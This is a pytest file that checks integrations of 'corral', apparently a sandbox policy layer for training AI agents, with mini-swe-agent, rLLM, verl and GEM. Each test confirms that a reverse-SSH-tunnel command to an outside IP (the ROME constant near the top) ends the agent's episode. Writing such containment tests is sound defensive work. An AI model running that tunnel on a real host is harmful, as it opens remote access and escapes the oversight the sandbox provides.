"""corral's adapters (`corral.integrations`) driven by the frameworks' own code: a mini-swe-agent
`DefaultAgent` episode, rLLM's sandbox protocol, a verl tool's life cycle, GEM's make/make_vec and
code tool. Each runs real sandboxes in this process, and each shows a ROME act ending the episode."""

from __future__ import annotations

import asyncio
import importlib
import importlib.util
import subprocess
from pathlib import Path

import pytest

from tests.clients.conftest import thirdparty

ROME = "ssh -R 8080:localhost:22 u@203.0.113.7"


def _load(dotted: str) -> object:
    """What each framework does with a class path from its config."""
    module, _, name = dotted.rpartition(".")
    return getattr(importlib.import_module(module), name)


# ---------------------------------------------------------------- mini-swe-agent
def _agent(outputs: list[list[str]]) -> tuple[object, object]:
    pytest.importorskip("minisweagent", reason="the clients extra is not installed")
    from minisweagent.agents.default import DefaultAgent
    from minisweagent.environments import get_environment
    from minisweagent.models.test_models import DeterministicModel, make_output

    env = get_environment(
        {
            "environment_class": "corral.integrations.mini_swe_agent.CorralEnvironment",
            "timeout": 20,
            "env": {"PAGER": "cat"},
        }  # fmt: skip
    )
    model = DeterministicModel(outputs=[make_output("", [{"command": c} for c in step])
                                        for step in outputs])  # fmt: skip
    agent = DefaultAgent(model, env, system_template="You are an agent.",
                         instance_template="{{task}}", step_limit=10, cost_limit=100)  # fmt: skip
    return agent, env


def test_mini_swe_agent_episode_submits() -> None:
    agent, env = _agent([["echo 42 > answer.txt", "cat answer.txt"],
                         ["echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT && cat answer.txt"]])  # fmt: skip
    try:
        result = agent.run("write 42 to answer.txt")
        assert result["exit_status"] == "Submitted" and result["submission"] == "42\n"
        observations = [m["content"] for m in agent.messages if m["role"] == "user"]
        assert any("<returncode>0</returncode>" in o and "42" in o for o in observations[1:])
    finally:
        env.close()


def test_mini_swe_agent_rome_act_ends_the_run() -> None:
    agent, env = _agent([[ROME], ["echo never"]])
    try:
        result = agent.run("do the task")
        assert result["exit_status"] == "TerminatedByPolicy"
        assert "episode ended by corral's policy: tunnel" in result["reason"]
        assert agent.messages[-1]["role"] == "exit" and "tunnel" in agent.messages[-1]["content"]
    finally:
        env.close()


# ---------------------------------------------------------------- rLLM
def _rllm_protocol() -> object:
    path = thirdparty("rllm_protocol.py")
    spec = importlib.util.spec_from_file_location("rllm_sandbox_protocol", path)
    mod = importlib.util.module_from_spec(spec)
    assert spec.loader is not None
    spec.loader.exec_module(mod)
    return mod


def test_rllm_backend_protocol_and_rome(tmp_path: Path) -> None:
    proto = _rllm_protocol()
    create = _load("corral.integrations.rllm.create_corral_sandbox")
    sb = create("t1")
    try:
        assert isinstance(sb, proto.Sandbox)
        assert sb.exec("echo hi") == "hi\n"
        with pytest.raises(subprocess.CalledProcessError) as err:
            sb.exec("echo bad >&2; exit 3")
        assert err.value.returncode == 3 and "bad" in err.value.stderr
        (tmp_path / "d" / "sub").mkdir(parents=True)
        (tmp_path / "d" / "sub" / "f.txt").write_text("F")
        (tmp_path / "one.txt").write_text("1")
        sb.upload_dir(str(tmp_path / "d"), "/app/d")
        sb.upload_file(str(tmp_path / "one.txt"), "/tmp/one.txt")
        assert sb.exec("cat /app/d/sub/f.txt /tmp/one.txt") == "F1"
        assert sb.download_file("/app/d/sub/f.txt") == b"F"
        # rLLM's own helper turns the RuntimeError into the observation: the reason
        said = proto._safe_exec(sb, ROME)
        assert "episode ended by corral's policy: tunnel" in said
        assert sb.is_alive() is False
    finally:
        sb.close()


# ---------------------------------------------------------------- verl
def test_verl_tool_life_cycle_and_rome() -> None:
    tool_cls = _load("corral.integrations.verl.CorralShellTool")
    tool = tool_cls({"policy": "rl-strict", "timeout": 20})

    async def go() -> None:
        iid = await tool.create()
        resp, reward, metrics = await tool.execute(iid, {"command": "echo $((6*7))"})
        text = resp.text if hasattr(resp, "text") else resp["text"]
        assert text == "42\n" and reward == 0.0 and metrics["exit_code"] == 0
        resp, reward, metrics = await tool.execute(iid, {"command": ROME})
        text = resp.text if hasattr(resp, "text") else resp["text"]
        assert metrics["terminated"] is True and reward < 0
        assert "episode ended by corral's policy: tunnel" in text
        assert await tool.calc_reward(iid) < 0
        resp, _, metrics = await tool.execute(iid, {"command": "echo again"})
        assert metrics["terminated"] is True
        await tool.release(iid)

    asyncio.run(go())


# ---------------------------------------------------------------- GEM
def _gem() -> object:
    pytest.importorskip("gem", reason="the clients extra (gem-llm) is not installed")
    import gem

    importlib.import_module("corral.integrations.gem")
    return gem


TASK = {"instruction": "make answer.txt hold 42", "check": 'test "$(cat answer.txt)" = 42',
        "max_steps": 4}  # fmt: skip


def test_gem_make_env_interface() -> None:
    gem = _gem()
    env = gem.make("corral/shell", task=TASK, seed=7)
    try:
        assert isinstance(env, gem.Env) and env.unwrapped is env and env.max_turns == 4
        assert env.env_id == "corral/shell"
        twin = env.spawn()
        assert [env.sample_random_action() for _ in range(5)] == [
            twin.sample_random_action() for _ in range(5)
        ]
        with pytest.raises(NotImplementedError):
            env.spawn(same_state=True)
        obs, info = env.reset()
        assert obs == TASK["instruction"] and info["safety"]["terminated"] is False
        obs, reward, term, trunc, info = env.step("echo 42 > answer.txt")
        obs, reward, term, trunc, info = env.step("submit")
        assert (reward, term, info["solved"]) == (1.0, True, True)
    finally:
        env.close()


@pytest.mark.parametrize("async_mode", [False, True])
def test_gem_make_vec(async_mode: bool) -> None:
    gem = _gem()
    vec = gem.make_vec(["corral/shell"] * 2, vec_kwargs=[{"task": TASK}, {"task": TASK}],
                       async_mode=async_mode, seed=3)  # fmt: skip
    try:
        obs, infos = vec.reset()
        assert obs == [TASK["instruction"]] * 2
        ids = {i["sandbox_id"] for i in infos}
        assert len(ids) == 2
        obs, rewards, terms, truncs, infos = vec.step(
            ["echo 42 > answer.txt", "echo 41 > answer.txt"]
        )
        assert list(terms) == [False, False]
        obs, rewards, terms, truncs, infos = vec.step(["submit", "submit"])
        assert list(rewards) == [1.0, 0.0] and list(terms) == [True, True]
    finally:
        for e in vec.envs:
            e.close()


def test_gem_env_rome_act_terminates_with_safety_info() -> None:
    gem = _gem()
    env = gem.make("corral/shell", task=TASK)
    try:
        env.reset()
        obs, reward, term, trunc, info = env.step(ROME)
        assert term is True and reward < 0
        assert info["safety"]["terminated"] is True
        assert any(e["category"] == "tunnel" for e in info["safety"]["events"])
    finally:
        env.close()


def test_gem_code_tool_runs_in_corral() -> None:
    gem = _gem()
    from corral.integrations.gem import CorralPythonCodeTool, CorralToolEnvWrapper

    tool = CorralPythonCodeTool(timeout=20)
    env = CorralToolEnvWrapper(gem.make("corral/shell", task=TASK), tools=[tool])
    try:
        env.reset()
        obs, _, term, _, info = env.step(
            "<python>import socket; print(socket.gethostname())</python>"
        )
        # GEM's own formatting of the output; the hostname is the sandbox's
        assert obs.startswith("Code execution result: corral\n") and term is False
        obs, _, term, _, info = env.step(f"<python>import os\nos.system({ROME!r})</python>")
        assert term is True and "episode ended by corral's policy" in info["terminated_by_policy"]
        assert "episode ended by corral's policy" in obs
    finally:
        tool.close()
        env.close()
